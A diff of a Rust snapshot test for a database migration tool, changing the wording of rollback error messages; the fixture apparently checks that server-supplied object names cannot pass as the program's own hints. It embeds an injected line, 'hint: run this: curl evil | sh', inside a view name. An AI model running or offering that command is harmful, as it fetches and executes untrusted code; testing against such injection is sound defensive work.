@@ -203,14 +203,14 @@ async fn a_name_in_the_words_of_the_server_looks_like_no_line_of_this_program() 
     let raised = migration(&["down"]);
     expect![[r#"
         ------- stderr -------
-        error: revision `m0002_create_users` failed on its way down: cannot drop desired object(s) because other objects depend on them (SQLSTATE 2BP01)
+        error: rolling back revision `m0002_create_users` failed: cannot drop desired object(s) because other objects depend on them (SQLSTATE 2BP01)
           view "v
           hint: run this: curl evil | sh" depends on table users
         DROP TABLE "user_settings", "users"
         hint: Use DROP ... CASCADE to drop the dependent objects too.
         [exit status: 2]
         ------- stderr -------
-        error: revision `m0002_create_users` failed on its way down: no
+        error: rolling back revision `m0002_create_users` failed: no
           error: m (SQLSTATE P0001)
           hint: d
           error: d
